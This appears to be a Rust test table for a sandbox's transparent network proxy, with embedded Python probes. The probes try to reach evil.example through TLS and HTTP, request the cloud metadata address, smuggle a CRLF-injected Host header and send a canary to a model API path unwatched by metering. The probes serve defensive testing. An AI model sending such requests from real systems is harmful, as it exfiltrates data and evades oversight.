//! Programs that know no proxy, and what the shim does for them.

use crate::ground::Inside;

/// Programs that know no proxy, and what the shim does for them.
pub const ROWS: &[Inside] = &[
    Inside {
        id: "net-transparent-tls",
        tries: "Connect to port 443 of the sandbox as every name does, and greet a host that no rule names.",
        script: python!(
            r#"
import ssl
def greet(name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", 443), 3) as raw:
        return context.wrap_socket(raw, server_hostname=name)
quietly(lambda: greet(canary + ".evil.example"))
quietly(lambda: greet("tunnel.example." + canary + ".evil.example"))
quietly(lambda: tcp("127.0.0.1", 443, canary))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-transparent-http",
        tries: "Connect to port 80 of the sandbox, and name hosts and addresses that no rule names.",
        script: python!(
            r#"
for name in ["evil.example", canary + ".evil.example", "169.254.169.254", gateway, "packages.example\r\nHost: evil.example"]:
    quietly(lambda: tcp("127.0.0.1", 80, f"GET /{canary} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n"))
quietly(lambda: tcp("127.0.0.1", 80, f"GET http://evil.example/{canary} HTTP/1.1\r\nHost: packages.example\r\nConnection: close\r\n\r\n"))
quietly(lambda: tcp("127.0.0.1", 80, f"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n{canary}"))
quietly(lambda: tcp("127.0.0.1", 80, f"GET /{canary} HTTP/1.0\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-transparent-model",
        tries: "Use the base addresses of models by the transparent port, where no meter may look.",
        script: python!(
            r#"
for name in ["model.example", "127.0.0.1:3128", "localhost"]:
    quietly(lambda: tcp("127.0.0.1", 80, f"POST /anthropic/v1/files HTTP/1.1\r\nHost: {name}\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
];
